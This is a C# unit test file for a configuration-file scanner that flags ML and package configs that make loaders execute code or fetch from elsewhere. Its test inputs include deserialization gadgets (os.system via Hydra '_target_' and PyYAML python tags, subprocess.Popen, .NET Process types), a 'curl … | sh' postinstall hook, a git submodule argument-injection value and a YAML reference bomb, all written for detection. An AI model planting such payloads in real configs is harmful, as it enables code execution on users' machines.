using System.Text;
using Assay.Analysis.Testing;
using Assay.Contracts.Values;
using Assay.Inspect.Analysers.Configuration;

namespace Assay.Tests.Unit.Inspect.Analysers.Configuration;

public sealed class ConfigAnalyserTests
{
    private static Task<TestBedResult> Run(string text, string format) =>
        TestBed.For(new ConfigAnalyser()).WithBytes(Encoding.UTF8.GetBytes(text)).As(format).RunAsync(TestContext.Current.CancellationToken);

    [Theory]
    [InlineData("{\"a\": {\"_target_\": \"os.system\", \"command\": \"echo assay-canary\"}}", Severity.Critical)]
    [InlineData("{\"a\": {\"_tar\\u0067et_\": \"torch.os.system\"}}", Severity.Critical)]
    [InlineData("{\"x\": NaN, \"y\": [1, 2,], \"_target_\": \"builtins.eval\"}", Severity.Critical)]
    [InlineData("{\"_target_\": \"hydra.utils.get_method\", \"path\": \"os.system\"}", Severity.High)]
    [InlineData("{\"class_path\": \"subprocess.Popen\", \"init_args\": {}}", Severity.Critical)]
    [InlineData("{\"_target_\": \"acme.models.Net\"}", Severity.Medium)]
    [InlineData("{\"auto_map\": {\"AutoModel\": \"modeling_x.X\"}}", Severity.Medium)]
    [InlineData("{\"auto_map\": {\"AutoModel\": \"someone/repo--modeling_x.X\"}}", Severity.Medium)]
    [InlineData("[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"custom_st.Transformer\"}]", Severity.Medium)]
    [InlineData("{\"activation_function\": \"os.system\"}", Severity.Critical)]
    [InlineData("{\"_class_name\": \"P\", \"_diffusers_version\": \"0.30\", \"unet\": [\"subprocess\", \"Popen\"]}", Severity.Critical)]
    [InlineData("{\"_class_name\": \"P\", \"_diffusers_version\": \"0.30\", \"unet\": [\"my_unet\", \"Net\"]}", Severity.Medium)]
    [InlineData("{\"_class_name\": [\"pipeline\", \"Mine\"], \"unet\": [\"os\", \"system\"]}", Severity.Critical)]
    [InlineData("{\"auto_mapping\": {\"base_model_class\": \"system\", \"parent_library\": \"os\"}}", Severity.Medium)]
    [InlineData("{\"py/object/apply\": 1, \"py/reduce\": [{\"py/function\": \"os.system\"}]}", Severity.Critical)]
    [InlineData("{\"scripts\": {\"postinstall\": \"curl http://127.0.0.1:9/x | sh\"}}", Severity.High)]
    [InlineData("{\"$type\": \"System.Diagnostics.Process, System\"}", Severity.High)]
    [InlineData("{\"custom_pipelines\": {\"x\": {\"impl\": \"pipe.MyPipe\"}}}", Severity.Medium)]
    public async Task Json_that_makes_loaders_call_something_is_reported(string json, Severity severity) =>
        ((await Run(json, FileFormat.Json)).Worst >= severity).ShouldBeTrue();

    [Theory]
    [InlineData("{\"architectures\": [\"BertForMaskedLM\"], \"id2label\": {\"0\": \"os.system\", \"1\": \"eval\"}, \"activation_function\": \"gelu_new\", \"url\": \"https://huggingface.co/x\"}")]
    [InlineData("{\"model\": {\"type\": \"BPE\", \"vocab\": {\"_target_\": 1, \"os.system\": 2, \"auto_map\": 3}}}")]
    [InlineData("{\"_target_\": \"nemo.collections.asr.models.EncDecCTCModel\", \"optim\": {\"_target_\": \"torch.optim.Adam\"}}")]
    [InlineData("[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"sentence_transformers.models.Transformer\"}]")]
    [InlineData("{\"activation_function\": \"torch.nn.modules.activation.Tanh\", \"in_features\": 8}")]
    [InlineData("{\"_class_name\": \"StableDiffusionPipeline\", \"_diffusers_version\": \"0.30\", \"unet\": [\"diffusers\", \"UNet2DConditionModel\"], \"safety_checker\": [\"stable_diffusion\", \"StableDiffusionSafetyChecker\"], \"feature_extractor\": [null, null]}")]
    [InlineData("{\"target\": \"ldm.models.diffusion.ddpm.LatentDiffusion\", \"params\": {\"target\": \"ldm.x.Y\"}}")]
    [InlineData("{\"base_model_name_or_path\": \"meta-llama/Llama-2-7b\", \"auto_mapping\": null, \"peft_type\": \"LORA\"}")]
    public async Task Honest_json_is_silent(string json) => (await Run(json, FileFormat.Json)).Findings.ShouldBeEmpty();

    [Theory]
    [InlineData("[submodule \"x\"]\n\tpath = x\n\turl = https://example.com/x\n\tupdate = !sh run.sh", Severity.High)]
    [InlineData("[submodule \"x\"]\n\turl = -u./payload", Severity.High)]
    [InlineData("[global]\nindex-url = http://127.0.0.1:9/simple", Severity.High)]
    [InlineData("[[tool.uv.index]]\nname = \"x\"\nurl = \"http://127.0.0.1:9/simple\"", Severity.High)]
    [InlineData("registry=http://127.0.0.1:9/", Severity.Medium)]
    public async Task Settings_that_fetch_from_elsewhere_are_reported(string toml, Severity severity) =>
        ((await Run(toml, FileFormat.Toml)).Worst >= severity).ShouldBeTrue();

    [Theory]
    [InlineData("[submodule \"llama.cpp\"]\n\tpath = third_party/llama.cpp\n\turl = https://github.com/ggml-org/llama.cpp\n\tupdate = rebase")]
    [InlineData("[global]\nindex-url = https://pypi.org/simple\n[[tool.uv.index]]\nurl = \"https://download.pytorch.org/whl/cu121\"")]
    public async Task Honest_settings_are_silent(string toml) => (await Run(toml, FileFormat.Toml)).Findings.ShouldBeEmpty();

    [Fact]
    public async Task A_recipe_that_makes_layers_and_sets_the_seed_is_silent() =>
        (await Run("__set_seed: !!python/object/apply:torch.manual_seed [1]\nseed: !apply:torch.manual_seed [1]\nmodel: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    n: !ref <n>\nact: !name:torch.nn.ReLU",
            FileFormat.Yaml)).Findings.ShouldBeEmpty();

    [Theory]
    [InlineData("a: !!python/object/apply:os.system ['echo assay-canary']", Severity.Critical)]
    [InlineData("%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['x']", Severity.Critical)]
    [InlineData("a: !<tag:yaml.org,2002:python/name:subprocess.Popen> ''", Severity.Critical)]
    [InlineData("a: !!python/object:acme.Net {x: 1}", Severity.Medium)]
    [InlineData("model: !new:os.system\n  - echo assay-canary", Severity.Critical)]
    [InlineData("x: !apply:subprocess.run [[sh]]", Severity.Critical)]
    [InlineData("f: !name:builtins.exec", Severity.Critical)]
    [InlineData("hook:\n  _target_: os.system\n  command: echo assay-canary", Severity.Critical)]
    [InlineData("a: {\"_target_\": 'numpy.testing._private.utils.runstring'}", Severity.Critical)]
    [InlineData("a: &x _target_\n? *x\n: os.system\nb:\n  _target_: builtins.exec", Severity.Critical)]
    [InlineData("flavors:\n  python_function:\n    loader_module: my_loader\n    code: code", Severity.Medium)]
    [InlineData("flavors:\n  python_function:\n    loader_module: subprocess", Severity.Critical)]
    [InlineData("services:\n  a:\n    privileged: true", Severity.Medium)]
    [InlineData("dependencies:\n- pip:\n  - torch\n  - --extra-index-url http://127.0.0.1:9/simple", Severity.High)]
    [InlineData("a: [\n\tb: }\nx:\n  _target_: os.system", Severity.Critical)]
    public async Task Yaml_that_makes_loaders_call_something_is_reported(string yaml, Severity severity) =>
        ((await Run(yaml, FileFormat.Yaml)).Worst >= severity).ShouldBeTrue();

    [Theory]
    [InlineData("artifact_path: model\nflavors:\n  python_function:\n    env: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl")]
    [InlineData("name: x\nchannels: [conda-forge]\ndependencies:\n- python=3.10\n- pip:\n  - torch==2.1.0\n  - mlflow<3")]
    [InlineData("a: &a {x: 1}\nb: *a\nc:\n  <<: *a\nd: !!python/tuple [1, 2]")]
    [InlineData("model:\n  _target_: nemo.collections.nlp.models.TextClassification\noptim:\n  _target_: torch.optim.Adam")]
    [InlineData("train: {lr: 1e-4, text: 'os.system and eval( are words'}")]
    public async Task Honest_yaml_is_silent(string yaml) => (await Run(yaml, FileFormat.Yaml)).Findings.ShouldBeEmpty();

    [Fact]
    public async Task A_module_by_itself_is_no_function() =>
        (await Run("{\"loss\": {\"module\": \"builtins\", \"class_name\": \"function\", \"config\": \"my_loss\"}}", FileFormat.Json)).Findings.ShouldBeEmpty();

    [Fact]
    public async Task References_that_unfold_without_end_are_reported()
    {
        var yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x]\n");
        for (var i = 1; i < 12; i++) yaml.Append($"a{i}: &a{i} [{string.Join(", ", Enumerable.Repeat($"*a{i - 1}", 8))}]\n");

        (await Run(yaml.ToString(), FileFormat.Yaml)).Rules.ShouldContain("ASY-CFG-006");
    }

    [Fact]
    public async Task Damaged_files_are_read()
    {
        const string yaml = "a: &x !!python/object/apply:os.system ['x', \"y\"]\nb: {c: [*x, 1]}\n? d\n: |\n  text\n";
        const string json = "{\"a\": [1, {\"_target_\": \"os.system\"}, null], \"b\": \"\\u0041\\n\"}";
        var random = new Random(3);
        for (var length = 0; length < yaml.Length; length++) (await Run(yaml[..length], FileFormat.Yaml)).Accepted.ShouldBeTrue();
        for (var length = 0; length < json.Length; length++) (await Run(json[..length], FileFormat.Json)).Accepted.ShouldBeTrue();
        for (var round = 0; round < 500; round++)
        {
            var (y, j) = (new StringBuilder(yaml), new StringBuilder(json));
            for (var i = 0; i < 4; i++) (y[random.Next(y.Length)], j[random.Next(j.Length)]) = ("[]{}:,*&!'\"\n\t "[random.Next(14)], "[]{}:,\"\\ \n/1"[random.Next(12)]);
            (await Run(y.ToString(), FileFormat.Yaml)).Accepted.ShouldBeTrue();
            (await Run(j.ToString(), FileFormat.Json)).Accepted.ShouldBeTrue();
        }
        (await Run(new string('[', 100_000), FileFormat.Json)).Accepted.ShouldBeTrue();
        (await Run(new string('[', 100_000), FileFormat.Yaml)).Accepted.ShouldBeTrue();
    }
}
